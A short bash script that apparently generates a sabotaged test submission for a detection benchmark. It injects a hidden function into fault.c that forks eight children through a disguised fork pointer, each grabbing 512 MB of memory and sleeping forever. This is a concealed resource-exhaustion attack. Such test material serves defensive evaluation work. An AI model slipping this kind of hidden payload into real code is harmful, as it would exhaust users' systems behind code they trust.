#!/usr/bin/env bash
# make.sh OUTDIR: writes the fanout-mem-m1 submission into OUTDIR (see ../README).
set -eu
. "$(dirname "$0")/../lib.sh"
OUT=$1
F=phase1-single/fault.c
write_sample "$OUT" $F "$(with_attack $F "$(hidden_prologue fork)
#include <stdlib.h>
#include <time.h>
static void h6_fanout(void)
{
    static int done;
    if (done++)
        return;
    for (int i = 0; i < 8; i++) {
        if (((int (*)(void))hidden_fork)() == 0) {
            size_t n = (size_t)512 << 20;
            volatile char *p = malloc(n);
            for (size_t k = 0; p != NULL && k < n; k += 4096)
                p[k] = 1;
            for (;;) {
                struct timespec t = { 1, 0 };
                nanosleep(&t, NULL);
            }
        }
    }
}" '    h6_fanout();')"
